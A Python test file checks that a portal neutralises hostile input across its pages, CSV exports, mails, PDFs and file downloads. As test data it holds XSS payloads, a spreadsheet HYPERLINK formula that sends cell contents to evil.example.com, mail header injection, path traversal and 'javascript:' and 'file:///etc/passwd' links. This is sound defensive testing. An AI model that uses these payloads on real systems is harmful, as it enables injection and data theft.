"""What strangers wrote comes out again harmless: on pages, in mails, in tables for spreadsheets, in PDFs, in the names of files."""

import csv
import io
from datetime import timedelta
from email import message_from_bytes, policy
from typing import Any

import pytest
from flask import Flask
from pypdf import PdfReader
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from portal.actors import PORTAL
from portal.adapters import pdf
from portal.adapters.mail.port import MailError, Message, as_email
from portal.adapters.storage import Storage
from portal.effects.mails import facts as mail_facts
from portal.effects.mails import kinds, rendering
from portal.jobs import Job
from portal.models import (
    AccessRequest,
    Agency,
    AuditEntry,
    CorrectiveAction,
    Device,
    Document,
    EmailChange,
    Incident,
    Lapse,
    Person,
    Project,
    RecordCheck,
    SecurityReview,
    StoredFile,
    SweepStop,
    Waiver,
)
from portal.refusals import Refused
from portal.services import links, paperwork
from portal.services.agencies import agencies
from portal.services.people import particulars
from portal.web.uploads import download
from tests.factories import Town
from tests.support import town as shared
from tests.support.mails import about_ticket
from tests.support.outage_mail import about_outage
from tests.support.pages import problems_of
from tests.support.service_mail import about_service
from tests.support.survey_mail import about_survey
from tests.support.town import Browser
from workflows.vocabulary import About, Kind

EVIL = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example.com?"&A1,"see")'


def poisoned(town: Town, evil: str) -> None:
    """Every name in the database, set past the services as an import with a hole would: the pages must stand it."""
    with town.change() as session:
        for model, columns in (
            (Person, ("first_name", "last_name", "title", "phone")), (Agency, ("name", "common_name", "street")), (Project, ("name",)),
            (Device, ("label", "description")), (StoredFile, ("name",)),
        ):  # fmt: skip
            for row in session.scalars(select(model)):
                for column in columns:
                    size = model.__table__.c[column].type.length
                    mark = evil if column not in ("name", "label") else f"{evil}{row.id}"
                    session.execute(update(model).where(model.id == row.id).values({column: mark[:size]}))


@pytest.mark.parametrize("who", ["desk", "admin", "director", "user", "lead"])
def test_names_with_markup_run_on_no_page(app: Flask, town: Town, browser: Browser, who: str) -> None:
    poisoned(town, EVIL)
    client = browser({"desk": town.desk, "lead": town.admin}.get(who) or town.harbor.members[who])
    words = {
        "envelope": "x", "purpose": "sign_in", "kind": "user_agreement", "role": "agency_admin", "group": "inventory", "number": 1,
        "about": "membership", "what": "sign", "which": "information", "version": "0" * 64, "sheet": "people", "scan_id": 1, "item": "MAL1", "campaign_id": 1,
    "session_id": 2_000_000_000,
    }  # fmt: skip
    shown = 0
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static" or "GET" not in (rule.methods or ()):
            continue
        given = shared.NUMBERS | words | town.harbor.ids
        path = rule.build({name: given[name] for name in rule.arguments}, append_unknown=False)
        assert path
        answer = client.get(path[1])
        if answer.mimetype != "text/html" or answer.status_code in (302, 303):
            assert answer.mimetype in (
                "text/html",
                "text/csv",
                "application/pdf",
                "text/plain",
                "application/json",
                "application/atom+xml",
                "text/calendar",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "image/svg+xml",
            ), path[1]
            continue
        text = answer.get_data(as_text=True)
        shown += "&lt;script&gt;" in text
        assert "<script>alert" not in text and "<img src=x" not in text, path[1]
        assert answer.status_code < 500 and not [p for p in problems_of(text) if "inline" in p], path[1]
        assert (
            "unsafe" not in answer.headers["Content-Security-Policy"]
            and answer.headers["X-Content-Type-Options"] == "nosniff"
        )
    assert shown > 3


@pytest.mark.parametrize(
    "path", ["/people?format=csv", "/agency/?format=csv", "/desk/people?format=csv", "/desk/audit?format=csv"]
)
def test_no_table_holds_a_formula(town: Town, browser: Browser, path: str) -> None:
    for formula in (FORMULA, "+1+1", "@SUM(A1)"):
        poisoned(town, formula)
        client = browser(town.admin)
        answer = client.get(path)
        assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment")
        rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                assert (
                    not cell.lstrip().startswith(("=", "+", "-", "@", "＝"))
                    or cell.lstrip("-").replace(".", "").isdigit()
                ), cell


@pytest.mark.parametrize(
    "path", ["/people?format=csv", "/agency/?format=csv", "/desk/people?format=csv", "/desk/audit?format=csv"]
)
def test_whoever_takes_a_table_away_is_on_record(town: Town, browser: Browser, path: str) -> None:
    before = town.count(AuditEntry, AuditEntry.act.like("%.export"))
    browser(town.admin).get(path)
    assert town.count(AuditEntry, AuditEntry.act.like("%.export")) == before + 1


def test_where_a_victim_service_provider_is_stands_in_no_list_and_no_table(
    app: Flask, town: Town, browser: Browser
) -> None:
    street = "77 Hidden Harbor Lane"
    with town.change() as session:
        agency = session.get_one(Agency, town.harbor.agency_id)
        about = agencies.AgencyFields(street=street, city="Secretville", state="ME", zip="04999")
        agencies.change(
            session, agency=agency, name=agency.name, about=about, actor=town.desk, now=town.now, policy=town.policy
        )
        town._record(session, Kind.EXCLUDED_PROVIDER, About.AGENCY, agency.id, detail="victim_service")
    for who in (town.admin, town.desk, town.trainer, town.inland.members["admin"]):
        client, looked = browser(who), set[str]()
        for rule in app.url_map.iter_rules():
            if rule.endpoint == "static" or rule.arguments or "GET" not in (rule.methods or ()):
                continue
            for query in (
                "",
                "?format=csv",
                "?q=Hidden",
                "?q=Harbor",
                "?state=excluded",
                "?agency=Sample+Harbor&format=csv",
            ):
                place, answer = rule.rule + query, None
                while place and place not in looked:  # where several addresses lead is one page
                    looked.add(place)
                    answer = client.get(place)
                    text = answer.get_data(as_text=True).replace("Hidden&#34;", "").replace('value="Hidden"', "")
                    assert street not in text and "Secretville" not in text and "04999" not in text, rule.rule + query
                    place = answer.headers.get("Location", "")
                if answer is not None and answer.status_code in (403, 404):  # refused before anything is looked for
                    break


@pytest.mark.parametrize(
    "text",
    [
        "Jamie\r\nBcc: evil@example.com", "Jamie\nX", "Jamie\x00", "Jamie\u2028X", "\u202eJamie", "<b>Jamie</b>", "Jamie;rm", "a" * 101, "",
        "   ", "123",
    ],
)  # fmt: skip
def test_a_name_holds_no_line_break_no_markup_and_nothing_unseen(text: str) -> None:
    if "\r" in text or "\n" in text or "\u2028" in text:
        made = None
        try:
            made = particulars.a_name(text, "first_name")
        except Refused:
            return
        assert not set(made) & set("\r\n\u2028\u2029\x0b\x0c")
    else:
        with pytest.raises(Refused):
            particulars.a_name(text, "first_name")


@pytest.mark.parametrize("field", ["subject", "to_name", "to_email", "id"])
@pytest.mark.parametrize(
    "evil", ["x\r\nBcc: evil@example.com", "x\nBcc: evil@example.com", "x\rBcc: evil@example.com", "x\x00y"]
)
def test_nothing_adds_a_header_to_a_mail(town: Town, field: str, evil: str) -> None:
    given = {
        "id": "welcome.1.abc", "sender": "Help <help@example.org>", "to_name": "Jamie", "to_email": "jamie@example.org", "subject": "Hello",
        "text": "Hello\n", "html": "<p>Hello</p>", "sent_at": town.now,
    }  # fmt: skip
    with pytest.raises(MailError):
        as_email(Message(**given | {field: evil}))


def what_mails_are_about(session: Session, town: Town, user: Person) -> dict[str, Any]:
    """One of everything that a mail tells of, by the names under which a job carries it."""
    side = town.harbor
    payload = {
        "person_id": user.id, "membership_id": side.ids["membership_id"], "agency_id": side.agency_id, "document_id": side.ids["document_id"],
        "request_id": session.scalar(select(AccessRequest.id).where(AccessRequest.membership_id == side.members["user"].id)),
        "account_id": town.account_of(side.members["user"]).id, "order_ids": [side.ids["order_id"]],
    }  # fmt: skip
    stop = SweepStop(day=town.now.date(), pulled_at=town.now, would_close=9, live=20, allowed=3, share=5)
    lapse = Lapse(
        about=About.AGENCY, subject_id=side.agency_id, agency_id=side.agency_id, prerequisite="participation-agreement",
        on_lapse="suspend", due=town.now.date() + timedelta(7), found_at=town.now,
    )  # fmt: skip
    waiver = Waiver(
        agency_id=side.agency_id, prerequisite="security-review", reason="The visit is booked.",
        until=town.now.date() + timedelta(30), asked_by=user.id, asked_at=town.now,
    )  # fmt: skip
    check = RecordCheck(
        checked_at=town.now,
        entries=9,
        anchors=1,
        last_seq=9,
        broken="Entry 7 <script>alert(1)</script> is missing.",
    )
    change = EmailChange(
        person_id=user.id, was="was@example.org", email="new@example.org", asked_by=town.desk.person_id, asked_at=town.now,
        expires_at=town.now + timedelta(1), token_hash="x" * 64,
    )  # fmt: skip
    action = CorrectiveAction(
        agency_id=side.agency_id, source="plan", category="governance", wrong="<script>alert(1)</script>", due=town.now.date(), opened_at=town.now
    )  # fmt: skip
    incident = Incident(said="<script>alert(1)</script>", reported_at=town.now)
    session.add_all([incident, stop, lapse, waiver, check, change, action])
    session.flush()
    session.get_one(SecurityReview, side.ids["review_id"]).returned_reason = "<script>alert(1)</script>"
    payload |= {"incident_id": incident.id, "review_id": side.ids["review_id"], "sanction_id": side.ids["sanction_id"]}
    payload |= {
        "action_id": action.id,
        "news": "opened",
        "stop_id": stop.id,
        "waiver_id": waiver.id,
        "check_id": check.id,
        "seq": 9,
        "mac": "0" * 64,
    }
    return payload | {"change_id": change.id}


def test_markup_in_names_is_text_in_every_mail(town: Town) -> None:
    poisoned(town, EVIL)
    side, sent = town.harbor, 0
    with town.change() as session:
        user = session.get_one(Person, side.members["comer"].person_id)
        link = links.invite(
            session, person=user, purpose="signing", document=session.get_one(Document, side.ids["document_id"]), actor=PORTAL, now=town.now,
            policy=town.policy,
        )  # fmt: skip
        links.mail_code(session, link=link, now=town.now, policy=town.policy)
        session.flush()
        payload = what_mails_are_about(session, town, user)
        change_id = payload.pop("change_id")
        for name in sorted(kinds.MAILS.keys() - {"executed_copy"}):
            carries = {"link_id": link.id} if name in {*links.MAILS.values(), "invite_director", "code"} else {}
            carries |= {"change_id": change_id} if name.startswith("email_") else {}
            carries |= about_ticket(
                session, name, agency_id=side.agency_id, asker_id=user.id, asker="<script>alert(1)</script>\r\nBcc: evil@example.com",
                admin_id=side.members["admin"].person_id, now=town.now, subject="<img src=x onerror=alert(1)>",
            )  # fmt: skip
            carries |= about_survey(
                session, name, person_id=user.id, now=town.now, title="<script>alert(1)</script>\r\nBcc: x"
            )
            carries |= about_outage(session, name, now=town.now, said="<script>alert(1)</script>")
            carries |= about_service(
                session,
                name,
                person_id=user.id,
                agency_id=side.agency_id,
                now=town.now,
                said="<script>alert(1)</script>",
            )
            job = Job(
                id=1,
                lease="",
                key=name,
                effect="mail",
                payload=payload | carries | {"mail": name},
                enqueued_at=town.now,
            )
            facts = mail_facts.load(session, job.payload, town.context)
            assert facts is not None, name
            facts.pop("link_href", "")
            message = rendering.render(
                name, facts | rendering.frame(town.context, "Go", "https://portal.example.org/"), job, town.context
            )
            assert (
                "<script>alert" not in message.html and "<img src=x" not in message.html and "\n" not in message.subject
            ), name
            wire = message_from_bytes(as_email(message).as_bytes(), policy=policy.default)
            assert wire["Bcc"] is None and len(wire.get_all("To")) == 1 and "evil@example.com" not in str(wire["To"])
            sent += 1
    assert sent > 10


def test_markup_in_what_is_filled_in_is_text_in_the_pdf(town: Town) -> None:
    with town.look() as session:
        document = session.get_one(Document, town.harbor.ids["document_id"])
        text = paperwork.text_of(document)
        evil = '<img src="file:///etc/passwd"/><a href="javascript:alert(1)">x</a><b>bold'
        fields = dict.fromkeys(paperwork.as_read(text, document.answers), evil)
    content = pdf.blank(text, fields | {"lead_name": evil})
    found = PdfReader(io.BytesIO(content))
    read = "".join(page.extract_text() for page in found.pages)
    assert "file:///etc/passwd" in read.replace("\n", "").replace(" ", "")
    for page in found.pages:
        for annotation in page.get("/Annots") or ():
            action = annotation.get_object().get("/A", {})
            assert "/JS" not in action and not str(action.get("/URI", "")).startswith(("javascript:", "file:"))


@pytest.mark.parametrize(
    "name",
    [
        "a\r\nX-Evil: 1.pdf",
        'q".pdf',
        "имя.pdf",
        "a\u202egpj.exe",
        "../../etc/passwd",
        "a;b=c.pdf",
        "",
        "a\ud800.pdf",
        "名" * 200,
    ],
)
def test_the_name_of_a_file_ends_no_header_and_fits_into_one(name: str) -> None:
    answer = download(b"x", "application/pdf", name)
    said = answer.headers["Content-Disposition"]
    assert said.startswith("attachment; ") and "\r" not in said and "\n" not in said and said.count('"') == 2
    said.encode("latin-1")  # what a server of the real kind puts on the wire
    assert "X-Evil" not in answer.headers
    assert "/" not in said.split("''")[0] and "%2F" not in said


def test_every_download_is_a_download(app: Flask, town: Town, browser: Browser, context: Any) -> None:
    """What somebody uploaded is never shown in the page: forced to disk, its type as inspected, nothing sniffed."""
    content = b"%PDF-1.7 <script>alert(1)</script>"
    sha = Storage(context.settings.storage).put(content)
    with town.change() as session:
        session.execute(update(StoredFile).values(sha256=sha, name="evil.html"))
    client, side = browser(town.desk), town.harbor
    answer = client.get(f"/desk/training/{side.ids['result_id']}/file")
    assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff" and answer.mimetype == "application/pdf"
    assert (
        "sandbox" in answer.headers["Content-Security-Policy"]
        or "default-src 'none'" in answer.headers["Content-Security-Policy"]
    )


def test_a_trainer_takes_no_evidence_away(town: Town, browser: Browser) -> None:
    with town.change() as session:
        town._record(
            session, Kind.SANCTION, About.AGENCY, town.harbor.agency_id, detail="reprimand", rests_on="stored_file",
            rests_on_id=town.harbor.ids["file_id"],
        )  # fmt: skip
    answer = browser(town.trainer).get(f"/desk/evidence/files/{town.harbor.ids['file_id']}")
    assert answer.status_code == 404
